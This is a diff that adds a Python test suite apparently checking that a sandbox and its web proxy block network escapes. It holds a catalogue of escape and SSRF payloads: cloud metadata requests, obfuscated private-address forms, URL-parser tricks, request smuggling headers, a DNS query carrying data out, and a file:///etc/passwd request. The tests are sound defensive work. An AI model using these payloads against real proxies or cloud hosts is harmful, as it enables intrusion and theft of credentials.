@@ -1,0 +1,229 @@
+# Addresses that the sandbox must not reach, with and without the web proxy.
+
+def reach(address, port):
+    connect((address, int(port)))
+    success("%s:%s" % (address, port))
+
+@off("--network=host")
+def connect_to_loopback():
+    """Connects to a service on the machine's loopback"""
+    reach("127.0.0.1", env("BAIT_TCP"))
+
+@off("--network=bridge")
+def connect_to_the_machines_addresses():
+    """Connects to a service through each address of the machine"""
+    port = env("BAIT_TCP")
+    each([lambda it=it: reach(it, port) for it in env("HOST_ADDRESSES").split() + ["172.17.0.1", "0.0.0.0", "127.1.2.3"]])
+
+@refused_with("EADDRNOTAVAIL")
+def connect_over_ipv6():
+    """Connects to the machine over IPv6"""
+    port = env("BAIT_TCP")
+    each([lambda it=it: reach(it, port) for it in ["::1", "::ffff:127.0.0.1", "::"]])
+
+def connect_to_the_internet():
+    """Connects to an address outside without the proxy"""
+    each([lambda it=it: reach(*it) for it in [("192.0.2.1", 80), ("1.1.1.1", 443), ("169.254.169.254", 80)]])
+
+@off("--network=host")
+def send_datagrams():
+    """Sends datagrams to the machine"""
+    port = number("BAIT_UDP")
+    def send(address):
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as it:
+            it.sendto(b"reached", (address, port))
+    each([lambda it=it: send(it) for it in ["127.0.0.1"] + env("HOST_ADDRESSES").split()])
+
+def ask_a_name_server():
+    """Carries data out in the names that it asks a name server for"""
+    def ask(address):
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as it:
+            it.settimeout(2)
+            it.sendto(b"\0\1\1\0\0\1\0\0\0\0\0\0\4data\7example\3org\0\0\1\0\1", (address, 53))
+            if it.recv(512):
+                success("an answer of " + address)
+    servers = ["127.0.0.53", "8.8.8.8"]
+    try:
+        servers += re.findall(r"nameserver (\S+)", open("/etc/resolv.conf").read())
+    except OSError:
+        pass
+    each([lambda it=it: ask(it) for it in servers])
+
+@off("-v $BAIT_FOLDER:$BAIT_FOLDER")
+def connect_to_a_unix_socket():
+    """Connects to a Unix socket of the machine by its path"""
+    with socket.socket(socket.AF_UNIX) as stream:
+        stream.connect(env("BAIT_UNIX"))
+
+@off("--network=host")
+def connect_to_an_abstract_socket():
+    """Connects to an abstract Unix socket of the machine"""
+    with socket.socket(socket.AF_UNIX) as stream:
+        stream.connect("\0" + env("BAIT_ABSTRACT"))
+
+@off("--network=host")
+def send_with_fast_open():
+    """Connects by sending, which a filter on connect does not see"""
+    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as stream:
+        stream.sendto(b"reached", 0x20000000, ("127.0.0.1", number("BAIT_TCP")))
+
+@refused_with("EADDRNOTAVAIL")
+def connect_with_multipath_tcp():
+    """Connects with MPTCP, which a filter on TCP may not see"""
+    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as stream:
+        stream.settimeout(3)
+        stream.connect(("127.0.0.1", number("BAIT_TCP")))
+        stream.sendall(b"reached")
+
+def connect_with_sctp():
+    """Connects with SCTP, which a filter on TCP may not see"""
+    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132) as stream:
+        stream.settimeout(3)
+        stream.connect(("127.0.0.1", number("BAIT_TCP")))
+
+def connect_after_unspec():
+    """Disconnects a proxy connection with AF_UNSPEC and connects it elsewhere"""
+    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as stream:
+        stream.settimeout(3)
+        stream.connect(("127.0.0.1", number("WEB_PORT")))
+        call(42, stream.fileno(), struct.pack("<H14x", 0), 16)
+        stream.connect(("127.0.0.1", number("BAIT_TCP")))
+        stream.sendall(b"reached")
+
+@off("--network=bridge")
+def see_other_interfaces():
+    """Looks for a network interface"""
+    if os.environ.get("BACKEND") == "landlock":
+        blocked("the machine's interfaces, which no socket can use")
+    names = [line.split(":")[0].strip() for line in open("/proc/net/dev").readlines()[2:]]
+    if [it for it in names if it != "lo"]:
+        success(" ".join(names))
+
+# Through the web proxy.
+
+def proxy(request, more=b"", timeout=8):
+    """Sends a request to the web proxy and returns the answer's first bytes."""
+    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as stream:
+        stream.settimeout(timeout)
+        stream.connect(("127.0.0.1", number("WEB_PORT")))
+        stream.sendall(request.encode("latin-1") if isinstance(request, str) else request)
+        answer = b""
+        try:
+            while b"\r\n\r\n" not in answer and len(answer) < 65536:
+                part = stream.recv(4096)
+                if not part:
+                    break
+                answer += part
+            if more and b" 200" in answer[:16]:
+                stream.sendall(more)
+                time.sleep(0.2)
+        except (socket.timeout, ConnectionError):
+            pass
+        return answer
+
+def refused(answers):
+    """All answers must be refusals. What was reached is noticed outside too."""
+    for name, answer in answers:
+        first = answer.split(b"\r\n")[0]
+        if re.match(rb"HTTP/1.[01] [23]", first):
+            success("%s: %s" % (name, first.decode("latin-1")))
+
+def get(host):
+    return proxy("GET http://%s/ HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (host, host))
+
+def tunnel(target):
+    return proxy("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target), b"reached")
+
+@web
+@recorded("web")
+def ask_the_proxy_for_loopback():
+    """Asks the web proxy for services on the machine's loopback"""
+    refused([(host, get(host)) for host in [env("BAIT_WEB"), "127.0.0.1", "localhost", "localhost.", "127.1", "[::1]",
+                                            "[::ffff:127.0.0.1]", "[::]", "0.0.0.0", "0", "ip6-localhost"]])
+
+@web
+@recorded("web")
+def write_the_address_differently():
+    """Names a private address in notations that a check may not understand"""
+    a, b, c, d = [int(it) for it in env("BAIT_WEB").split(".")]
+    whole = a << 24 | b << 16 | c << 8 | d
+    forms = ["%d" % whole, "0x%x" % whole, "0%o" % whole, "0x%x.0x%x.0x%x.0x%x" % (a, b, c, d), "0%o.%d.%d.%d" % (a, b, c, d),
+             "%d.%d" % (a, whole & 0xffffff), "%d.%d.%d.%d." % (a, b, c, d), "[::ffff:%d.%d.%d.%d]" % (a, b, c, d),
+             "[::%x:%x]" % (whole >> 16, whole & 0xffff), "[64:ff9b::%x:%x]" % (whole >> 16, whole & 0xffff),
+             "[2002:%x:%x::]" % (whole >> 16, whole & 0xffff), "%d.%d.%d.%d%%00.example.org" % (a, b, c, d),
+             "\u2460\u2461\u2466.77.0.1".encode("utf-8").decode("latin-1")]
+    refused([(form, get(form)) for form in forms])
+
+@recorded("web")
+def ask_the_proxy_for_metadata():
+    """Asks the web proxy for the cloud's metadata service, which gives out credentials"""
+    refused([(host, get(host)) for host in ["169.254.169.254", "[fd00:ec2::254]", "metadata.google.internal", "100.100.100.200",
+                                            "[::ffff:169.254.169.254]", "2852039166"]])
+
+@recorded("web")
+def ask_the_proxy_for_private_networks():
+    """Asks the web proxy for addresses of private networks and of the engine's bridge"""
+    hosts = env("HOST_ADDRESSES").split() + ["172.17.0.1", "10.0.0.1", "192.168.0.1", "100.64.0.1", "[fe80::1]", "[fd00::2]",
+                                             "224.0.0.1", "255.255.255.255"]
+    refused([(host, get(host)) for host in hosts])
+
+@web
+@recorded("web")
+def tunnel_to_a_private_address():
+    """Opens a tunnel to a private address"""
+    bait, port = env("BAIT_WEB"), env("BAIT_TCP")
+    targets = [bait + ":80", bait + ":443", "127.0.0.1:" + port, "localhost:" + port, "localhost:443", "[::1]:443"]
+    refused([(it, tunnel(it)) for it in targets + [own + ":" + port for own in env("HOST_ADDRESSES").split()]])
+
+@web
+@recorded("web")
+def hide_the_host_in_the_url():
+    """Writes URLs that a check and a client read differently"""
+    bait = env("BAIT_WEB")
+    urls = ["http://example.org@%s/" % bait, "http://%s#@example.org/" % bait, "http://%s\\@example.org/" % bait,
+            "http://example.org:80@%s/" % bait, "http://%s:80;example.org/" % bait, "http:///%s/" % bait, "http:%s/" % bait,
+            "HTTP://%s/" % bait, "http://%s\t.example.org/" % bait, "http://%s%%2f.example.org/" % bait, "//%s/" % bait]
+    refused([(it, proxy("GET %s HTTP/1.1\r\nHost: example.org\r\nConnection: close\r\n\r\n" % it)) for it in urls])
+
+@web
+def name_another_host_in_the_header():
+    """Names an allowed host in the URL and a private one in the Host header, and the other way round"""
+    bait = env("BAIT_WEB")
+    requests = ["GET / HTTP/1.1\r\nHost: %s\r\n\r\n" % bait,
+                "GET http://%s/ HTTP/1.1\r\nHost: example.org\r\n\r\n" % bait,
+                "GET http://%s/ HTTP/1.0\r\n\r\n" % bait,
+                "GET http://%s/ HTTP/1.1\r\nHost: %s\r\nHost: example.org\r\n\r\n" % (bait, bait),
+                "GET http://%s/\r\n\r\n" % bait,
+                "GET http://example.org/ http://%s/ HTTP/1.1\r\nHost: example.org\r\n\r\n" % bait]
+    refused([(str(at), proxy(it)) for at, it in enumerate(requests)])
+
+@web
+def smuggle_a_second_request():
+    """Hides a request to a private address in the body of another"""
+    bait = env("BAIT_WEB")
+    inner = "GET http://%s/ HTTP/1.1\r\nHost: %s\r\n\r\n" % (bait, bait)
+    heads = ["Content-Length: %d\r\nTransfer-Encoding: chunked\r\n" % len(inner), "Content-Length: 0\r\nContent-Length: %d\r\n" % len(inner),
+             "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n", "Transfer-Encoding : chunked\r\n",
+             "Transfer-Encoding: xchunked\r\n", "Content-Length: +0\r\n", "X: y\r\n Transfer-Encoding: chunked\r\n"]
+    for head in heads:
+        proxy("POST http://127.0.0.1/ HTTP/1.1\r\nHost: 127.0.0.1\r\n%s\r\n0\r\n\r\n%s" % (head, inner), timeout=2)
+
+@recorded("web")
+def reach_another_port():
+    """Asks the web proxy for a port that is not the web's"""
+    refused([(it, tunnel(it)) for it in ["192.0.2.1:22", "192.0.2.1:25", "example.org:6379", "example.org:0", "example.org:65536"]]
+            + [(it, get(it)) for it in ["192.0.2.1:8080", "192.0.2.1:22", "example.org:25"]])
+
+def use_another_scheme():
+    """Asks the web proxy for files and other protocols"""
+    urls = ["file:///etc/passwd", "ftp://192.0.2.1/", "gopher://192.0.2.1/", "unix:/run/docker.sock", "https://example.org/"]
+    refused([(it, proxy("GET %s HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n" % it)) for it in urls])
+
+@web
+def reach_the_worker_through_the_git_port():
+    """Asks the git port for other hosts and other paths of the forge"""
+    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as stream:
+        stream.settimeout(5)
+        stream.connect(("127.0.0.1", number("GIT_PORT")))
+        stream.sendall(("CONNECT %s:80 HTTP/1.1\r\nHost: x\r\n\r\n" % env("BAIT_WEB")).encode())
+        refused([("connect", stream.recv(4096))])
